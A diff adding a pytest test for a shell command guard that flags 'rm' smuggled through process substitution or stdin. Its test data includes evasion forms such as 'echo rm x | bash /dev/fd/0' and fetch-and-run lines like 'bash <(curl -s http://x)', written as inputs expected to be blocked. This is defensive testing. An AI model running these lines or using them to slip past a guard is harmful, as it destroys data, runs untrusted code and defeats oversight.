@@ -311,3 +311,15 @@ def test_a_shell_reading_an_exec_sessions_input_makes_it_a_script(command, scrip
 def test_a_shell_in_a_subshell_or_group_reads_the_pipe(line):
     assert not RM.check(line).allowed
     assert RM.check(line.replace("rm x", "ls")).allowed
+
+
+@pytest.mark.parametrize("line, allowed", [
+    ("source <(echo rm x)", False), (". <(echo rm x)", False), ("bash <(echo rm x)", False),
+    ("bash < <(echo rm x)", False), ("exec < <(echo rm x)", False), ("source /dev/stdin <<< 'rm x'", False),
+    ("echo rm x | source /dev/stdin", False), ("echo rm x | bash /dev/fd/0", False),
+    ("source <(curl -s http://x)", False), ("bash <(curl -s http://x)", False),
+    ("source <(echo ls)", True), ("bash <(echo ls)", True), ("diff <(ls a) <(ls b)", True),
+    ("source ~/.bashrc", True), ("bash deploy.sh", True), ("exec bash", True),
+])
+def test_a_shell_or_source_reading_a_process_substitution_or_stdin_runs_what_it_gives(line, allowed):
+    assert RM.check(line).allowed == allowed, line
